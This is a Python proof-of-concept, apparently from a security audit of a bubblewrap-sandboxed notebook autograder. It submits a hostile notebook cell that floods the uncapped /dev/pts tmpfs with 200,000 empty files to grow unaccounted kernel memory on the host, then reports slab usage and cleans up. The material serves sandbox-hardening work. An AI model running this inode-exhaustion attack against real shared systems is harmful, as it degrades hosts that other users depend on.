"""a03: the tmpfs bwrap mounts on /dev/pts (--size 4096, made to stand in for a devpts) is writable by the
kernel and has NO inode cap: --remount-ro /dev is not recursive, and the template caps inodes only on /tmp,
/dev/shm and the work folder (round 9's fix). Empty files cost no bytes of the 4 KiB size, only inodes:
kernel memory (shmem inodes, dentries) that no rlimit counts. Round 9's uncapped-inodes hole, by a fourth tmpfs.
The cell lists every mount's statvfs (size, inodes, writable?), then makes N empty files in /dev/pts (default
200,000, past the 65,536 cap of the other tmpfs), shows the host's SUnreclaim/Slab change, and removes them."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u12

N = int(sys.argv[1]) if len(sys.argv) > 1 else 200_000
CELL = r'''
import os, time
def _probe(n):
    def meminfo(k):
        return next(int(l.split()[1]) // 1024 for l in open("/proc/meminfo") if l.startswith(k + ":"))
    for line in open("/proc/self/mountinfo"):
        f = line.split()
        mnt, opts = f[4], f[5]
        fstype = f[f.index("-") + 1]
        if fstype not in ("tmpfs", "devpts", "mqueue"):
            continue
        try:
            s = os.statvfs(mnt)
            print(f"{mnt:40s} {fstype:6s} {opts:28s} size {s.f_blocks * s.f_frsize:>12,} inodes {s.f_files:>10,} "
                  f"writable {os.access(mnt, os.W_OK)}")
        except OSError as e:
            print(mnt, e)
    s0, sl0 = meminfo("SUnreclaim"), meminfo("Slab")
    t = time.time()
    made = 0
    try:
        for i in range(n):
            os.close(os.open(f"/dev/pts/f{i}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
    except OSError as e:
        print("stopped:", e)
    print(f"made {made:,} files in /dev/pts in {time.time() - t:.1f} s; statvfs now {os.statvfs('/dev/pts').f_ffree:,} "
          f"inodes free; host SUnreclaim {s0} -> {meminfo('SUnreclaim')} MiB, Slab {sl0} -> {meminfo('Slab')} MiB", flush=True)
    for i in range(made):
        os.unlink(f"/dev/pts/f{i}")
    print("removed; SUnreclaim", meminfo("SUnreclaim"), "MiB")
_probe(%d)
''' % N

hostile = u12.notebook("ps1_memory", append={"training_memory": CELL})
dest = u12.course("a03", {("mallory", "ps1_memory"): hostile})
u12.grade(dest)
u12.scores(dest)
import nbformat
nb = nbformat.read(f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.get("outputs", []):
            print("OUTPUT:", o.get("text") or o.get("evalue"))
